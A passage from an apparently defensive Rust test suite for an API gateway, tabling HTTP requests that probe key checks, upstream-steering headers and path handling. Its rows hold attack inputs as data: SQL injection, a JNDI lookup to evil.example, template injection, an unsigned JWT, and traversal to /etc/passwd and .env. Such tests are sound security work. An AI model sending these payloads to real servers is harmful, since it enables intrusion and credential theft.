        ("closed", Kept(&[200])),
        ("not-close", Kept(&[200])),
    ];
    table("connection", &rows, |text| {
        with_fields(&format!("connection: {text}\r\n"))
    })
}

/// Keys that are none: whatever they hold, the answer is 401 and says nothing of them.
fn keys() -> Vec<Case> {
    let long = "a".repeat(20_000);
    let key = format!("sk-par-0123456789-{}", "a".repeat(43));
    let no = Told(&[401]);
    let rows = [
        ("", no),
        ("authorization:\r\n", no),
        ("authorization: Bearer\r\n", no),
        ("authorization: Bearer \r\n", no),
        ("authorization: KEY\r\n", no),
        ("authorization: Basic KEY\r\n", no),
        ("authorization: Basic YTpi\r\n", no),
        ("authorization: Digest username=\"a\"\r\n", no),
        ("authorization: BearerKEY\r\n", no),
        ("authorization: Bearer  KEY\r\n", Kept(&[200])),
        ("authorization: bearer KEY\r\n", Kept(&[200])),
        ("authorization: BEARER KEY\r\n", Kept(&[200])),
        ("x-api-key: KEY\r\n", Kept(&[200])),
        ("authorization: Bearer KEY KEY\r\n", no),
        ("authorization: Bearer KEY,KEY\r\n", no),
        ("authorization: Bearer KEYx\r\n", no),
        ("authorization: Bearer xKEY\r\n", no),
        ("authorization: Bearer sk-par-\r\n", no),
        ("authorization: Bearer sk-par--\r\n", no),
        ("authorization: Bearer sk-par-x\r\n", no),
        ("authorization: Bearer sk-par-x-\r\n", no),
        ("authorization: Bearer sk-\r\n", no),
        ("authorization: Bearer null\r\n", no),
        ("authorization: Bearer undefined\r\n", no),
        ("authorization: Bearer true\r\n", no),
        ("authorization: Bearer ' OR '1'='1\r\n", no),
        ("authorization: Bearer sk-par-' OR 1=1 --\r\n", no),
        (
            "authorization: Bearer sk-par-x'; DROP TABLE api_key; ---y\r\n",
            no,
        ),
        (
            "authorization: Bearer sk-par-x\" UNION SELECT * FROM api_key-y\r\n",
            no,
        ),
        ("authorization: Bearer sk-par-%27%20OR%201%3D1-x\r\n", no),
        ("authorization: Bearer sk-par-../../../etc/passwd-x\r\n", no),
        (
            "authorization: Bearer ${jndi:ldap://evil.example/a}\r\n",
            no,
        ),
        ("authorization: Bearer {{7*7}}\r\n", no),
        (
            "authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.\r\n",
            no,
        ),
        ("authorization: Bearer admin-secret\r\n", no),
        ("authorization: Bearer ä\r\n", no),
        ("authorization: Bearer \u{1}\r\n", BAD),
        ("authorization: Bearer KEY\0\r\n", BAD),
        (
            "authorization: Bearer KEY\r\nauthorization: Bearer KEY\r\n",
            Unserved,
        ),
        (
            "authorization: Bearer KEY\r\nauthorization: Bearer x\r\n",
            Unserved,
        ),
        (
            "authorization: Bearer x\r\nauthorization: Bearer KEY\r\n",
            Unserved,
        ),
        ("x-api-key: KEY\r\nx-api-key: x\r\n", Unserved),
        ("x-api-key: x\r\nx-api-key: KEY\r\n", Unserved),
        ("x_api_key: KEY\r\n", no),
        ("api-key: KEY\r\n", no),
        ("proxy-authorization: Bearer KEY\r\n", no),
        ("cookie: authorization=KEY\r\n", no),
    ];
    let with = |fields: &str| format!("GET /v1/models HTTP/1.1\r\nhost: a\r\n{fields}\r\n");
    let mut cases = table("key", &rows, with);
    cases.push(case(
        "a long key",
        with(&format!("authorization: Bearer {long}\r\n")),
        no,
    ));
    cases.push(case(
        "an unknown key",
        with(&format!("authorization: Bearer {key}\r\n")),
        no,
    ));
    let query = "GET /v1/models?key=KEY&api_key=KEY&access_token=KEY HTTP/1.1\r\nhost: a\r\n\r\n";
    cases.push(case("a key in the query", query, no));
    cases
}

/// Fields by which callers have chosen hosts, keys or models elsewhere: they are nothing here.
fn steering() -> Vec<Case> {
    let body = body();
    let names = [
        "x-portkey-custom-host",
        "x-portkey-provider",
        "x-portkey-config",
        "x-base-url",
        "api-base",
        "api_base",
        "base-url",
        "helicone-target-url",
        "helicone-openai-api-base",
        "x-forwarded-host",
        "x-forwarded-server",
        "x-original-host",
        "x-host",
        "x-upstream",
        "x-upstream-url",
        "x-target-url",
        "x-envoy-original-dst-host",
        "x-real-ip",
        "proxy",
        "http_proxy",
        "openai-organization",
        "cf-aig-authorization",
        "x-stainless-helper-method",
        "x-litellm-api-key",
    ];
    let rows: Vec<String> = names
        .iter()
        .map(|name| {
            format!(
                "{name}: http://127.0.0.1:9/evil\r\ncontent-length: {}\r\n",
                body.len()
            )
        })
        .collect();
    let rows: Vec<(&str, Want)> = rows
        .iter()
        .map(|text| (text.as_str(), Kept(&[200])))
        .collect();
    table("steering", &rows, |fields| post(fields, &body))
}

/// Paths that look like another: none of them is an operator's, or a call's.
fn paths() -> Vec<Case> {
    let none = Told(&[400, 401, 403, 404, 405]);
    let rows = [
        ("/v1/models", Kept(&[200])),
        ("/v1/models?", Kept(&[200])),
        ("/v1/models?a=b", Kept(&[200])),
        ("/v1/models/", none),
        ("/v1//models", none),
        ("//v1/models", none),
        ("/v1/models/.", none),
        ("/v1/./models", none),
        ("/v1/x/../models", none),
        ("/v1/%2e%2e/models", none),
        ("/v1/models%00", none),
        ("/v1/models%0d%0ax:y", none),
        ("/v1/models%2f", none),
        ("/v1%2fmodels", none),
        ("/%76%31/models", none),
        ("/v1/models;x", none),
        ("/V1/MODELS", none),
        ("/v1/models%", none),
        ("/v1/models%zz", none),
        ("/v1/models%c0%af", none),
        ("/api/keys", none),
        ("/api/../api/keys", none),
        ("/v1/../api/keys", none),
        ("/v1/models/../../api/keys", none),
        ("/%61pi/keys", none),
        ("/API/keys", none),
        ("/admin", none),
        ("/metrics", none),
        ("/healthz", none),
        ("/.env", none),
        ("/.git/config", none),
        ("/../../../../etc/passwd", none),
        ("/..%2f..%2fetc%2fpasswd", none),
        ("/cgi-bin/a.sh", none),
        ("/debug/pprof/", none),
        ("/config", none),
        ("/v1/config/reload", none),
        ("/v1/responses/../models", none),
        ("/v1/responses/%2e%2e%2fmodels", none),
        ("/v1/calls/x", none),
        ("/v1/calls/' OR 1=1", BAD),
        ("/v1/calls/%27%20OR%201=1", none),
        ("/v1/responses/resp_%27%20OR%201=1", none),
        ("/v1/tasks/../../x", none),
        ("http://a/api/keys", none),
        ("http://a", Kept(&[200])),
        ("http://a/", Kept(&[200])),
        ("http://a?x", Kept(&[200])),
    ];
    table("path", &rows, |path| {
        with_line(&format!("GET {path} HTTP/1.1"))
    })
}
